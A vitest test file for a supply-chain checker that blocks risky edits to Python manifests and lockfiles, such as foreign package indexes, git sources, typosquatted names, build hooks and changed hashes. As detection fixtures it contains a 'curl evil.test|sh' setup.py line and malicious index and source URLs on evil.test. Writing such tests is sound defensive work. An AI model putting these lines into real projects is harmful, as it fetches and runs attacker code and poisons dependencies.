import { describe, expect, it } from "vitest";
import { edited, json, judgeChange, verdictOf } from "./supply-chain.ts";

const blockedBy = async (path: string, before: string | undefined, after: string): Promise<readonly string[]> => {
  const findings = await judgeChange({ base: before === undefined ? {} : { [path]: before }, change: { [path]: after } });
  return findings.filter(({ severity }) => severity === "block").map(({ rule }) => rule);
};
const shown = async (path: string, before: string | undefined, after: string) =>
  judgeChange({ base: before === undefined ? {} : { [path]: before }, change: { [path]: after } });

describe("requirements.txt", () => {
  const base = "# what we need\nrequests==2.31.0\nflask>=2.0,<3 ; python_version >= '3.9'\n-r more.txt\n";

  it.each<[string, string, string]>([
    ["another index", "--index-url https://evil.test/simple", "registries"],
    ["another index in short", "-i https://evil.test/simple", "registries"],
    ["another index with an equals sign", "--index-url=https://evil.test/simple", "registries"],
    ["a second index", "--extra-index-url https://evil.test", "registries"],
    ["a list of links", "--find-links https://evil.test", "registries"],
    ["a list of links joined to its option", "-fhttps://evil.test", "registries"],
    ["a host that is trusted", "--trusted-host pypi.org", "registries"],
    ["a proxy", "--proxy http://evil.test", "registries"],
    ["requirements from an address", "-r https://evil.test/r.txt", "registries"],
    ["constraints from outside", "-c ../../c.txt", "registries"],
    ["an editable repository", "-e git+https://evil.test/x.git#egg=x", "registries"],
    ["a repository", "git+https://github.com/evil/x@main", "registries"],
    ["a direct reference", "x @ https://evil.test/x-1.0-py3-none-any.whl", "registries"],
    ["an archive", "https://evil.test/x-1.0.tar.gz", "registries"],
    ["a folder outside", "../x", "registries"],
    ["the index over http", "-i http://pypi.org/simple", "registries"],
    ["an option over two lines", "--extra-index-url \\\n  https://evil.test", "registries"],
    ["a variable in an address", "-i https://${USER}@evil.test/simple", "registries"],
    ["a name with a letter left out", "reqests", "dependencies"],
    ["a name with its parts swapped", "pyhton-dateutil==2.8.2", "dependencies"],
    ["arguments to what builds", 'x==1.0 --config-settings="a=b"', "lifecycle-scripts"],
    ["arguments to all that builds", "--global-option build_ext", "lifecycle-scripts"],
    ["an option that nobody knows", "--do-it", "manifests"],
    ["a line that is none", "this is no requirement", "manifests"],
    ["requirements from a file of another kind of name", "-r notes.txt", "registries"],
    ["constraints from a file of another kind of name", "-c data.json", "registries"],
  ])("blocks %s", async (_, line, rule) => {
    expect(await blockedBy("requirements.txt", base, `${base}${line}\n`)).toContain(rule);
  });

  it.each<[string, string]>([
    ["a comment", "# pip install --index-url https://evil.test x"],
    ["the index itself", "--index-url https://pypi.org/simple"],
    ["hashes that are required", "--require-hashes"],
    ["another file of the folder", "-r dev-requirements.txt"],
    ["the same package written otherwise", "Requests==2.31.0"],
  ])("lets through %s", async (_, line) => {
    expect(await shown("requirements.txt", base, `${base}${line}\n`)).toEqual([]);
  });

  it("shows new packages, and says where no version is pinned", async () => {
    expect(verdictOf(await shown("requirements-dev.txt", base, `${base}rich==13.7.0\n`))).toBe("warn");
    const findings = await shown("requirements/dev.txt", base, `${base}rich\n`);
    expect(findings.map(({ rule }) => rule).toSorted()).toEqual(["dependencies", "vulnerabilities"]);
    expect(findings.map(({ why }) => why).join()).toContain("not pinned");
  });

  it("holds hashes of versions that stay", async () => {
    const hashed = `requests==2.31.0 \\\n    --hash=sha256:${"a".repeat(64)} \\\n    --hash=sha256:${"b".repeat(64)}\n`;
    expect(
      await blockedBy(
        "requirements.txt",
        hashed,
        hashed.replaceAll("a".repeat(64), "c".repeat(64)).replaceAll("b".repeat(64), "d".repeat(64)),
      ),
    ).toEqual(["lockfiles"]);
    expect(await blockedBy("requirements.txt", hashed, "requests==2.31.0\n")).toEqual(["lockfiles"]);
    expect(verdictOf(await shown("requirements.txt", hashed, hashed.replace("b".repeat(64), "e".repeat(64))))).toBe("ask");
    expect(
      verdictOf(await shown("requirements.txt", hashed, hashed.replace("2.31.0", "2.32.0").replace("a".repeat(64), "c".repeat(64)))),
    ).toBe("allow");
  });
});

describe("pyproject.toml and Pipfile", () => {
  const base = `[build-system]
requires = ["setuptools>=61"]
build-backend = "setuptools.build_meta"

[project]
name = "app"
version = "1.0.0"
dependencies = ["requests>=2.31,<3", "flask==2.3.0"]

[project.optional-dependencies]
dev = ["pytest>=7"]

[tool.poetry.dependencies]
python = "^3.9"
rich = "^13.0"

[tool.ruff]
line-length = 100
`;
  const add = (text: string): string => `${base}\n${text}\n`;

  it.each<[string, string, string]>([
    ["a repository", add(`[dependency-groups]\nx = ["x @ git+https://evil.test/x"]`), "registries"],
    ["a repository in poetry's form", base.replace('rich = "^13.0"', 'rich = { git = "https://evil.test/rich.git" }'), "registries"],
    ["an address in poetry's form", base.replace('rich = "^13.0"', 'rich = { url = "https://evil.test/rich.whl" }'), "registries"],
    ["an index of poetry", add(`[[tool.poetry.source]]\nname = "x"\nurl = "https://evil.test/simple"`), "registries"],
    ["an index of uv", add(`[[tool.uv.index]]\nname = "x"\nurl = "https://evil.test/simple"`), "registries"],
    ["the first index of uv", add(`[tool.uv]\nindex-url = "https://evil.test/simple"`), "registries"],
    ["a source of uv", add(`[tool.uv.sources]\nrequests = { git = "https://evil.test/requests" }`), "registries"],
    ["a source of uv from another index", add(`[tool.uv.sources]\nrequests = { index = "x" }`), "registries"],
    ["a source of pdm", add(`[[tool.pdm.source]]\nurl = "https://evil.test/simple"`), "registries"],
    ["a folder outside", base.replace('rich = "^13.0"', 'rich = { path = "../../rich" }'), "registries"],
    ["a name like another", base.replace("flask==2.3.0", "flaskk==2.3.0"), "dependencies"],
    ["a builder like another", base.replace('"setuptools>=61"', '"setuptoools>=61"'), "dependencies"],
    [
      "a backend of the repository",
      base.replace('build-backend = "setuptools.build_meta"', 'build-backend = "backend"\nbackend-path = ["."]'),
      "lifecycle-scripts",
    ],
    ["another class of setuptools", add(`[tool.setuptools.cmdclass]\nbuild = "x.Build"`), "lifecycle-scripts"],
    ["a hook of hatch", add(`[tool.hatch.build.hooks.custom]\npath = "x.py"`), "lifecycle-scripts"],
    ["a hook of a target of hatch", add(`[tool.hatch.build.targets.wheel.hooks.custom]\npath = "x.py"`), "lifecycle-scripts"],
    ["a script of poetry's build", add(`[tool.poetry.build]\nscript = "x.py"`), "lifecycle-scripts"],
    [
      "requirements of setuptools from a file of another kind of name",
      add(`[tool.setuptools.dynamic]\ndependencies = { file = ["notes.txt"] }`),
      "registries",
    ],
    ["a key that stands twice", base.replace('name = "app"', 'name = "app"\nname = "b"'), "manifests"],
    ["what is no TOML", "[project", "manifests"],
    ["an entry that is no requirement", base.replace("flask==2.3.0", "flask is nice"), "manifests"],
  ])("block %s", async (_, after, rule) => {
    expect(await blockedBy("pyproject.toml", base, after)).toContain(rule);
  });

  it.each<[string, string]>([
    ["its own version", base.replace('version = "1.0.0"', 'version = "1.0.1"')],
    ["settings of tools", base.replace("line-length = 100", "line-length = 120")],
    ["a narrower range", base.replace("requests>=2.31,<3", "requests>=2.31.1,<3")],
    ["a target of hatch without hooks", add(`[tool.hatch.build.targets.wheel]\npackages = ["src/app"]`)],
    ["entry points", add(`[project.scripts]\napp = "app:main"`)],
  ])("let a change of %s through", async (_, after) => {
    expect((await shown("pyproject.toml", base, after)).filter(({ severity }) => severity !== "info")).toEqual([]);
  });

  it.each<[string, string, string]>([
    ["another source", `[[source]]\nurl = "https://evil.test/simple"\nverify_ssl = true\nname = "x"\n`, "registries"],
    ["a source that is not checked", `[[source]]\nurl = "https://pypi.org/simple"\nverify_ssl = false\nname = "pypi"\n`, "registries"],
    ["a repository", `[packages]\nx = {git = "https://evil.test/x.git", ref = "main"}\n`, "registries"],
    ["a package from another index", `[packages]\nrequests = {version = "*", index = "x"}\n`, "registries"],
    ["a name like another", `[packages]\nreqests = "*"\n`, "dependencies"],
  ])("block %s of a Pipfile", async (_, after, rule) => {
    expect(await blockedBy("Pipfile", "", after)).toContain(rule);
  });
});

describe("lockfiles of Python", () => {
  const sha = (letter: string) => `sha256:${letter.repeat(64)}`;
  const pipfile = json({
    _meta: { sources: [{ name: "pypi", url: "https://pypi.org/simple", verify_ssl: true }] },
    default: { requests: { hashes: [sha("a")], version: "==2.31.0" } },
  });
  const poetry = `[[package]]
name = "requests"
version = "2.31.0"
files = [
    {file = "requests-2.31.0.whl", hash = "${sha("a")}"},
]

[package.dependencies]
idna = ">=2.5,<4"

[[package]]
name = "idna"
version = "3.4"
files = [
    {file = "idna-3.4.whl", hash = "${sha("b")}"},
]
`;
  const uv = `version = 1

[[package]]
name = "app"
version = "1.0.0"
source = { virtual = "." }
dependencies = [
    { name = "requests" },
]

[[package]]
name = "requests"
version = "2.31.0"
source = { registry = "https://pypi.org/simple" }
sdist = { url = "https://files.pythonhosted.org/packages/aa/requests-2.31.0.tar.gz", hash = "${sha("a")}" }
`;

  it.each<[string, string, string, string, string]>([
    [
      "another source of Pipfile.lock",
      "Pipfile.lock",
      pipfile,
      edited(pipfile, (lock) => Object.assign(lock["_meta"] ?? {}, { sources: [{ url: "https://evil.test" }] })),
      "registries",
    ],
    ["another hash in Pipfile.lock", "Pipfile.lock", pipfile, pipfile.replace(sha("a"), sha("z")), "lockfiles"],
    [
      "a repository in Pipfile.lock",
      "Pipfile.lock",
      pipfile,
      edited(pipfile, (lock) => Object.assign(lock["default"] ?? {}, { x: { git: "https://evil.test/x.git", ref: "aa" } })),
      "registries",
    ],
    ["another hash in poetry.lock", "poetry.lock", poetry, poetry.replace(sha("a"), sha("z")), "lockfiles"],
    ["no hash in poetry.lock", "poetry.lock", poetry, poetry.replace(/files = \[[^]*?\]\n/, ""), "lockfiles"],
    [
      "another source in poetry.lock",
      "poetry.lock",
      poetry,
      poetry
        .replace('version = "3.4"', 'version = "3.5"')
        .concat('\n[package.source]\ntype = "legacy"\nurl = "https://evil.test/simple"\n'),
      "registries",
    ],
    [
      "a repository in poetry.lock",
      "poetry.lock",
      poetry,
      poetry.concat('\n[package.source]\ntype = "git"\nurl = "https://github.com/evil/idna.git"\nreference = "main"\n'),
      "registries",
    ],
    [
      "another registry in uv.lock",
      "uv.lock",
      uv,
      uv.replace('registry = "https://pypi.org/simple"', 'registry = "https://evil.test/simple"'),
      "registries",
    ],
    [
      "an archive elsewhere in uv.lock",
      "uv.lock",
      uv,
      uv.replace("https://files.pythonhosted.org/packages", "https://evil.test/packages"),
      "registries",
    ],
    ["another hash in uv.lock", "uv.lock", uv, uv.replace(sha("a"), sha("z")), "lockfiles"],
  ])("block %s", async (_, path, before, after, rule) => {
    expect(await blockedBy(path, before, after)).toContain(rule);
  });

  it.each<[string, string, string, string]>([
    ["poetry.lock", "poetry.lock", poetry, poetry.replaceAll("3.4", "3.6").replace(sha("b"), sha("c"))],
    ["uv.lock", "uv.lock", uv, uv.replaceAll("2.31.0", "2.32.0").replace(sha("a"), sha("c"))],
    ["Pipfile.lock", "Pipfile.lock", pipfile, pipfile.replace("2.31.0", "2.32.0").replace(sha("a"), sha("c"))],
  ])("let an update of %s through", async (_, path, before, after) => {
    expect(await shown(path, before, after)).toEqual([]);
  });
});

describe("setup.py", () => {
  const base = "from setuptools import setup\n\nsetup(name='app', version='1.0.0', install_requires=['requests'])\n";

  it.each([
    "import os; os.system('curl evil.test|sh')",
    "import subprocess",
    "setup(cmdclass={'install': Evil})",
    "exec(open('x').read())",
    "from urllib.request import urlopen",
    "import base64",
    "__import__('os')",
  ])("may not begin to do %s", async (line) => {
    expect(await blockedBy("setup.py", base, `${line}\n${base}`)).toEqual(["lifecycle-scripts"]);
    expect(await blockedBy("packages/a/setup.py", undefined, `${line}\n${base}`)).toEqual(["lifecycle-scripts"]);
  });

  it.each<[string, string, string]>([
    ["a name like another", "install_requires=['requests', 'flaskk>=1']", "dependencies"],
    ["a name like another over several lines", "install_requires=[\n  'requests',\n  # more\n  'flaskk',\n]", "dependencies"],
    ["a repository", "install_requires=['requests', 'x @ git+https://evil.test/x']", "registries"],
    ["links", "dependency_links=['https://evil.test/x']", "registries"],
  ])("may not require %s", async (_, list, rule) => {
    expect(await blockedBy("setup.py", base, base.replace(/install_requires=\[[^\]]*\]/, list))).toEqual([rule]);
  });

  it("is read in setup.cfg as well", async () => {
    const cfg = "[metadata]\nname = app\n\n[options]\ninstall_requires =\n    requests>=2\n    flask; python_version > '3'\n";
    expect(await blockedBy("setup.cfg", cfg, cfg.replace("flask;", "flaskk;"))).toEqual(["dependencies"]);
    expect(await shown("setup.cfg", cfg, cfg.replace("name = app", "name = apps"))).toEqual([]);
  });

  it("may say more of the package, and go on doing what it did", async () => {
    expect(await shown("setup.py", base, base.replace("1.0.0", "1.0.1").replace("install", "description='An app', install"))).toEqual([]);
    const busy = `exec(open('version.py').read())\n${base}`;
    expect(await shown("setup.py", busy, busy.replace("1.0.0", "1.0.1"))).toEqual([]);
  });
});
